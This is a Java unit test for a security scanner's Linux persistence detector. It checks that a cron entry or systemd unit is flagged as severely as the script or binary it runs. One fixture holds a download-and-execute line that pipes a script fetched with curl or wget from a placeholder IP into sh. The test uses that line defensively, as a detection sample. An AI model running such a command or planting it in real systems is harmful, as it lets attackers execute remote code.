package dev.ferret.detect.persistence;

import dev.ferret.collect.CollectOptions;
import dev.ferret.collect.linux.persistence.Fixture;
import dev.ferret.data.DetectionData;
import dev.ferret.data.rules.Golden;
import dev.ferret.memory.MemoryScanOptions;
import dev.ferret.model.Coverage;
import dev.ferret.model.Finding;
import dev.ferret.model.Severity;
import dev.ferret.model.Snapshot;
import dev.ferret.rules.LoadedRules;
import dev.ferret.rules.TestRules;
import dev.ferret.scan.Area;
import dev.ferret.scan.Catalog;
import dev.ferret.scan.ScanEngine;
import dev.ferret.scan.ScanRequest;
import dev.ferret.scan.ScanResult;
import dev.ferret.scan.SignatureScan;
import dev.ferret.sweep.Progress;
import dev.ferret.sweep.SweepOptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import java.util.Optional;
import java.util.Set;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** A persistence entry is as bad as what it runs: followed one level down, chained, same severity. */
class RunTargetTest {
    @TempDir
    java.nio.file.Path root;

    private static List<Finding> detectWithTargets(Snapshot s) {
        List<Finding> all = new ArrayList<>(Fixture.detect(s));
        all.addAll(new RunTargetDetector().detect(s, Fixture.context().withEarlier(List.copyOf(all))));
        return all;
    }

    private static Finding target(List<Finding> findings, String entryPath) {
        return findings.stream().filter(f -> f.ruleId().equals(RunTargetDetector.ID)
                        && f.persistence().path().equals(entryPath)).findFirst()
                .orElseThrow(() -> new AssertionError("no run-target finding for " + entryPath + " in\n"
                        + ThreatCasesTest.dump(findings)));
    }

    @Test
    @Golden("linux.persistence.runs-flagged-target")
    void aPlainCronLineThatRunsADownloaderScriptCarriesItsSeverity() {
        Snapshot s = new Fixture(root)
                .file("/etc/cron.d/sysupdate", "*/10 * * * * root /usr/local/share/sysupdate.sh\n")
                .file("/usr/local/share/sysupdate.sh", "#!/bin/sh\n"
                        + "(curl -fsSL http://198.51.100.7/ld.sh || wget -q -O- http://198.51.100.7/ld.sh) | sh\n")
                .collectAll();
        List<Finding> findings = detectWithTargets(s);
        Finding f = target(findings, "/etc/cron.d/sysupdate");
        ThreatCasesTest.atLeast(Severity.HIGH, f);
        assertEquals("/usr/local/share/sysupdate.sh", f.file().path());
        assertTrue(ThreatCasesTest.evidence(f, "198.51.100.7/ld.sh) | sh"), f.reasons().toString());
    }

    @Test
    void aCronLineRunningAnOrdinaryScriptStaysQuiet() {
        Snapshot s = new Fixture(root)
                .file("/etc/cron.d/backup", "0 3 * * * root /usr/local/sbin/backup.sh\n")
                .file("/usr/local/sbin/backup.sh", "#!/bin/sh\ntar czf /var/backups/etc.tgz /etc\n")
                .collectAll();
        assertTrue(detectWithTargets(s).stream().noneMatch(f -> f.ruleId().equals(RunTargetDetector.ID)));
    }

    @Test
    @Timeout(120)
    void aUnitRunningACriticalBinaryOutsideTheSweepRootsIsCriticalAndInItsChain() throws Exception {
        Fixture tree = new Fixture(root)
                .file("/etc/systemd/system/sysguard.service", "[Service]\nExecStart=/opt/sysguard/bin/sysguard\n"
                        + "Restart=always\n[Install]\nWantedBy=multi-user.target\n")
                .file("/opt/sysguard/bin/sysguard", "\u007fELF dropper body RUN-TARGET-MARKER\n");
        DetectionData data = DetectionData.builtIn();
        ScanResult result;
        try (LoadedRules rules = TestRules.compile("rule Run_Target_Dropper { meta: score = 95 "
                + "strings: $m = \"RUN-TARGET-MARKER\" condition: $m }\n")) {
            SweepOptions sweep = new SweepOptions(List.of("/tmp"), 1 << 20, 1, 10, true, null, List.of());
            SignatureScan plan = new SignatureScan(Optional.of(rules), sweep,
                    new MemoryScanOptions(Set.of(), 1 << 20, 1, 1, 1), Progress.none(), true);
            result = new ScanEngine(Catalog.linuxCollectors(data, plan), Catalog.primaryDetectors(),
                    Catalog.pivotDetectors(), Clock.systemUTC()).run(new ScanRequest(
                    EnumSet.of(Area.PERSISTENCE, Area.SWEEP), tree.root(), false,
                    new CollectOptions(Duration.ofMillis(100), false), data), new Coverage());
        }
        List<Finding> findings = result.findings();
        Finding yara = findings.stream().filter(f -> f.ruleId().equals("yara.file")).findFirst()
                .orElseThrow(() -> new AssertionError("the sweep did not read the unit's target:\n"
                        + ThreatCasesTest.dump(findings)));
        Finding unit = target(findings, "/etc/systemd/system/sysguard.service");
        assertEquals(Severity.CRITICAL, unit.severity(), unit.reasons().toString());
        assertEquals(yara.chain(), unit.chain(), "the unit and the binary it runs are one chain");
    }
}
